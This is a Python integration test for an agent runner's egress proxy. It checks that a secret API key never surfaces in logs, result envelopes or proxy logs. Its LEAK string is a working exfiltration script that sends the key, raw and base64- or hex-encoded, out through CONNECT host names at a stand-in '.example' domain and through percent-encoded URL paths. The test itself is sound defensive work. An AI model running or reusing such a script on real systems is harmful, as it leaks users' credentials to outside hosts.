"""The seventeenth hostile review, the egress proxy end to end: the agent's key, lower-cased
as the proxy logs a host, and in hex cut short by a stray ``%``. The tests that need no
engine are in tests/unit/test_hostile_review_round17_registry_proxy.py."""

from __future__ import annotations

import base64
import json
from pathlib import Path
from typing import Any

import pytest

from tests.integration.test_hostile_secrets import _checkout_proxy_image
from tests.support import docker, run_cli
from tests.support.agents import (
    SCRIPTED_ARGV,
    SCRIPTED_RUNTIME,
    agent_contract,
    agent_policy,
    model_server,
)
from tests.support.hostile import record
from tests.support.jobs import SESSION_ID, SESSION_LABEL

KEY = "sk-ant-api03-Rk7QmXz2LpV9wTnB4cYhJ8dFgS1eUoA6iKqM3rNvPbWxZyC0tE5uGlHjO-Dk9sQ2AA"
"""Made up, mixed-case, as an Anthropic key is."""

LEAK = r"""
import base64, os, socket, sys
key = os.environ["API_KEY"]
host, port = os.environ["HTTP_PROXY"].removeprefix("http://").rstrip("/").split(":")
allowed = sys.argv[1]
def ask(line):
    s = socket.create_connection((host, int(port)), timeout=20)
    s.sendall(line.encode() + b"\r\nHost: x\r\nConnection: close\r\n\r\n")
    while s.recv(65536):
        pass
    s.close()
ask(f"CONNECT {key}.example:443 HTTP/1.1")
ask(f"CONNECT {base64.urlsafe_b64encode(key.encode()).decode().rstrip('=')}.example:443 HTTP/1.1")
for form in (key.encode().hex(), base64.b64encode(key.encode()).decode()):
    ask(f"GET http://{allowed}/x%{form[:20]}%{ord(form[20]):02X}{form[21:]} HTTP/1.1")
"""


def _forms() -> dict[str, bytes]:
    """The key as the review found it: lower-cased (a host the proxy logged), its URL-safe
    base64 lower-cased, and its hex and base64 with one character percent-encoded."""
    raw = KEY.encode()
    b64 = base64.b64encode(raw).decode()
    hexed = raw.hex()
    return {
        "lower": raw.lower(),
        "base64url lower": base64.urlsafe_b64encode(raw).rstrip(b"=").lower()[4:-4],
        "hex, one digit %-encoded": f"{hexed[:20]}%{ord(hexed[20]):02X}{hexed[21:]}".encode(),
        "base64, one %-encoded": f"{b64[:20]}%{ord(b64[20]):02X}{b64[21:]}".encode(),
    }


@pytest.mark.docker
@pytest.mark.hostile
def test_the_key_lower_cased_or_cut_short_is_nowhere_the_run_writes(
    tmp_path: Path, scripted_agent_image: str
) -> None:
    """``CONNECT <KEY>.example:443`` (and its base64 as the host): the proxy lower-cases the
    host, and neither its blanking nor the runner's redaction folded case, so the lower-cased
    key went into egress.log, egress.json, the envelope's ``egress.connections[].host`` and
    the signed result. ``GET http://allowed/x%<hex of KEY, one digit percent-encoded>`` (and
    base64 so): the proxy's engine log, which the engine keeps for the slot's life, kept it
    whole. Now none of these holds any of those forms, and the hosts read the marker."""
    (tmp_path / "repository").mkdir()
    (tmp_path / "repository" / "leak.py").write_text(LEAK)
    with model_server(tmp_path, "evaluate") as server:
        allowed = f"{server.host}:{server.port}"
        prompt = (
            "preflight runtime: python3 -c 'import json'\n"
            "run: mkdir -p /job/output/logs\n"
            "run: python3 repository/evaluate.py --checkpoint repository/checkpoint.json > "
            "/job/output/logs/evaluation.log\n"
            f"run: python3 repository/leak.py {allowed}\n"
        )
        contract = agent_contract(
            tmp_path, prompt=prompt, agent={"maxTurns": 20},
            change=lambda d: d["protocol"]["preflight"].update(
                checks=[{"id": "runtime", "successCriteria": "python3 runs"}]),
        )  # fmt: skip
        policy = agent_policy(
            tmp_path, "scripted", scripted_agent_image, argv=SCRIPTED_ARGV, usage="claude-code",
            secrets=[{"env": "API_KEY", "fromEnv": "AGENT_TEST_KEY"}], allow=[allowed],
            egress=server.egress(proxyImage=_checkout_proxy_image()),
            **SCRIPTED_RUNTIME,
        )  # fmt: skip
        state = tmp_path / "state"
        proc = run_cli(
            "run", str(contract), "--state-dir", str(state), "--json", "--allow-unsigned",
            "--label", f"{SESSION_LABEL}={SESSION_ID}", "--policy", str(policy),
            env={"AGENT_TEST_KEY": KEY},
        )  # fmt: skip
        env: dict[str, Any] = json.loads(proc.stdout)
        job = Path(env["jobDir"])
        ledger = [json.loads(x) for x in (job / "record" / "ledger.jsonl").read_text().splitlines()]
        slot = next(e for e in ledger if e["type"] == "attempt.starting")["data"]["egress"]
        proxy_log = docker("logs", f"{slot['slot']}-proxy")
        assert proxy_log.returncode == 0, proxy_log.stderr
    assert env["status"] == "succeeded", (env["failure"], proc.stderr)
    hosts = [c.get("host") for c in env["egress"]["connections"]]
    assert hosts.count("[redacted: API_KEY]") == 2, hosts
    places = {
        **{
            str(p.relative_to(state)): p.read_bytes()
            for p in state.rglob("*")
            if p.is_file() and not p.is_symlink()
        },
        "--json stdout": proc.stdout.encode(),
        "stderr": proc.stderr.encode(),
        "docker logs of the proxy": (proxy_log.stdout + proxy_log.stderr).encode(),
    }
    leaks = {
        where: found
        for where, data in places.items()
        if (found := [name for name, form in _forms().items() if form in data])
    }
    record("the key lower-cased or cut short by a stray %", "runc", env, leaks=leaks)
    assert leaks == {}, leaks
